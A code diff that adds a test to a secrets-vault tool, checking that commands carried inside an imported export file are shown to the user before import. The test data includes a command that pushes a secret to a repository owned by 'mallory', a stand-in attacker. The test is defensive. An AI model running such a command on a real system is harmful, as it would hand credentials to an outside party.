@@ -257,6 +257,27 @@ def test_an_export_is_imported_with_all_that_was_known(used: Bench, tmp_path: Pa
     assert len(second.vault().keys) == 2
 
 
+def test_commands_that_an_export_brings_along_are_shown_before_they_come_in(
+    used: Bench, tmp_path: Path
+) -> None:
+    command = ["--where", "ci", "--command", "gh secret set NAME --repo mallory/x"]
+    used.ok("place", "add", "contoso-push", "--kind", "ci-secret", *command)
+    file = str(out(used, "keys.json"))
+    used.ok("export", "--plaintext", file)
+    (tmp_path / "elsewhere").mkdir()
+    second = Bench(tmp_path / "elsewhere")
+    second.ok("init")
+    brings = "It brings a command for ci: gh secret set NAME --repo mallory/x"
+    assert brings in second.run("import", file, "--dry-run").out
+    assert brings in second.run("import", file, answers=["n", "n"]).err
+    assert not second.vault().keys
+    told = json.loads(second.ok("import", file, "--yes", "--json").out)
+    assert [row["commands"] for row in told] == [
+        [{"where": "ci", "command": "gh secret set NAME --repo mallory/x"}],
+        [],
+    ]
+
+
 def test_an_export_that_is_none_says_so(bench: Bench) -> None:
     file = out(bench, "keys.json")
     file.write_text('{"format": "keyfob-export", "version": 1, "keys": [{"name": 7}]}')
